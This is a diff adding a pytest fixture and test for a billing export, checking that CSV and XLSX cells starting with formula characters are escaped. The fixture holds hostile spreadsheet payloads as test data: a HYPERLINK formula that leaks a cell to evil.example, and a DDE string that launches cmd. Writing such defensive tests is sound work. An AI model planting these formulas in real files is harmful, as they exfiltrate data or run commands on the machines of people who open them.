@@ -124,3 +124,48 @@ def test_bad_export_requests_are_refused_and_record_nothing(engine, credits):
     with pytest.raises(ExportRefused, match="status"):
         _export(engine, "csv", statuses=["paid"])
     assert counts(engine, "billing_exports") == before
+
+
+HOSTILE_CUSTOMER = '=HYPERLINK("http://evil.example/leak?"&A2,"click")'
+
+
+@pytest.fixture
+def hostile_credits(engine, close) -> None:
+    """Issue 27: credits whose customer name and contract ids start with formula
+    characters (=, +, -, @, TAB)."""
+    add_contract(engine, "+C-1", customer=HOSTILE_CUSTOMER)
+    add_contract(engine, "@C-2", customer="@SUM(1+1)*cmd|' /C calc'!A0")
+    add_contract(engine, "-C-3", customer="+1+2")
+    for cid in ("+C-1", "@C-2", "-C-3"):
+        ingest_records(engine, failures(cid, unresolved=1)[0])
+        close(cid)
+
+
+def test_no_export_cell_can_run_as_a_formula(engine, hostile_credits):
+    """OWASP CSV injection: every text cell starting with = + - @ TAB CR is prefixed with
+    a single quote in the CSV and the XLSX (and the XLSX stores it as a string, never a
+    formula); the JSON keeps the exact text; numbers are untouched."""
+    from openpyxl import load_workbook
+
+    from billing.export import spreadsheet_text
+
+    rows = list(csv.DictReader(io.StringIO(_export(engine, "csv").data.decode())))
+    assert {r["customer_name"] for r in rows} == {
+        "'" + HOSTILE_CUSTOMER, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+2"}
+    assert {r["contract_id"] for r in rows} == {"'+C-1", "'@C-2", "'-C-3"}
+    for r in rows:
+        for value in r.values():
+            assert not value or value[0] not in "=+-@\t\r", r
+    ws = load_workbook(io.BytesIO(_export(engine, "xlsx").data)).active
+    col = {name: i + 1 for i, name in enumerate(COLUMNS)}
+    for row in range(2, ws.max_row + 1):
+        for name in COLUMNS:
+            cell = ws.cell(row=row, column=col[name])
+            assert cell.data_type != "f", (name, cell.value)
+        assert ws.cell(row=row, column=col["customer_name"]).data_type == "s"
+        assert str(ws.cell(row=row, column=col["contract_id"]).value).startswith("'")
+        assert isinstance(ws.cell(row=row, column=col["credit_minor_units"]).value, int)
+    doc = json.loads(_export(engine, "json").data)
+    assert HOSTILE_CUSTOMER in {r["customer_name"] for r in doc["rows"]}
+    assert spreadsheet_text("Acme") == "Acme" and spreadsheet_text("") == ""
+    assert spreadsheet_text("\rx") == "'\rx" and spreadsheet_text("\uff1dSUM(1)") == "'\uff1dSUM(1)"
